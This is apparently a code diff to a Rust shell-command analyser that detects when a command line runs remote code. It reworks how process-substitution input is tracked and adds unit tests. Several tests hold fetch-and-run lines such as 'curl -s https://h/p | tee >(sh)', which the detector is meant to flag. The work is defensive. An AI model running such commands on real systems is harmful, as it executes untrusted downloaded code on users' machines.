@@ -53,7 +53,8 @@ pub fn parse(text: &str) -> CommandLine {
         return line;
     }
     let mut walker = Walker::default();
-    walker.parse_into(text, 0);
+    // `text` passed `check_input` above: walk it without asking again.
+    walker.walk_text(text, 0);
     line.commands = walker.out;
     line.problems = walker.problems;
     line
@@ -136,9 +137,10 @@ pub(crate) struct Walker {
     pub(crate) names: normalize::Names,
     /// The whole-line dataflow state (files, descriptors, variables).
     pub(crate) flow: flow::Flow,
-    /// The name of the last command whose process-substitution feed was
-    /// not worked out yet (it read no input): see [`Walker::note_proc_feed`].
+    /// The name and input of the last command whose process-substitution
+    /// feed was not worked out yet: see [`Walker::note_proc_feed`].
     feed_name: String,
+    feed_stdin: Option<Stdin>,
     /// Whether `feed_name` is newer than `flow.proc_feed`.
     feed_pending: bool,
 }
@@ -164,17 +166,20 @@ impl Walker {
     }
 
     /// Records what a process substitution in `name`'s words would read
-    /// (`tee >(sh)`). Most commands have none and read no input: their
-    /// name is kept and the feed worked out only when one is read, as it
-    /// depends on nothing else then.
+    /// (`tee >(sh)`). Most commands have none: the name and input are kept
+    /// and the feed worked out only when one is read. That gives the same
+    /// feed as working it out now, since only a file input (`< f`) makes it
+    /// depend on the dataflow state, which changes as the walk goes on.
     fn note_proc_feed(&mut self, name: &str, stdin: Option<&Stdin>) {
-        if stdin.is_none() {
+        if matches!(stdin, Some(Stdin::File { .. })) {
+            self.feed_pending = false;
+            self.feed_stdin = None;
+            self.set_proc_feed(name, stdin);
+        } else {
             self.feed_name.clear();
             self.feed_name.push_str(name);
+            self.feed_stdin = stdin.cloned();
             self.feed_pending = true;
-        } else {
-            self.feed_pending = false;
-            self.set_proc_feed(name, stdin);
         }
     }
 
@@ -183,7 +188,8 @@ impl Walker {
         if self.feed_pending {
             self.feed_pending = false;
             let name = std::mem::take(&mut self.feed_name);
-            self.set_proc_feed(&name, None);
+            let stdin = self.feed_stdin.take();
+            self.set_proc_feed(&name, stdin.as_ref());
             self.feed_name = name;
         }
         self.flow.proc_feed.clone()
@@ -202,6 +208,11 @@ impl Walker {
             self.problem(p);
             return;
         }
+        self.walk_text(text, level);
+    }
+
+    /// Parses `text`, which passed [`check_input`], and walks it.
+    fn walk_text(&mut self, text: &str, level: usize) {
         let Some(tree) = parse_tree(text) else {
             self.problem(Problem::Unparseable(snippet(text)));
             return;
@@ -703,3 +714,43 @@ fn snippet(text: &str) -> String {
 
 #[cfg(test)]
 mod tests;
+
+#[cfg(test)]
+mod feed_tests {
+    //! What `>(…)` reads is worked out only when one is read; these pin that
+    //! it is still the feed of the last command named before it.
+    use super::parse;
+    use crate::action::Effect;
+
+    fn runs_remote(line: &str, program: &str) -> bool {
+        parse(line).commands.iter().any(|c| {
+            c.program == program
+                && c.effects
+                    .iter()
+                    .any(|e| matches!(e, Effect::RunsRemoteCode { .. }))
+        })
+    }
+
+    #[test]
+    fn a_piped_command_feeds_its_own_process_substitution() {
+        assert!(runs_remote("curl -s https://h/p | tee >(sh)", "sh"));
+        assert!(!runs_remote("cat notes.txt | tee >(sh)", "sh"));
+    }
+
+    #[test]
+    fn a_redirection_of_a_group_reads_the_last_command_named() {
+        assert!(runs_remote(
+            "curl -s https://h/p | cat; { :; } > >(sh)",
+            "sh"
+        ));
+        assert!(!runs_remote("echo hi; { :; } > >(sh)", "sh"));
+    }
+
+    #[test]
+    fn a_file_input_is_read_where_the_command_is() {
+        assert!(runs_remote(
+            "curl -so dl.sh https://h/p; tee >(sh) < dl.sh",
+            "sh"
+        ));
+    }
+}
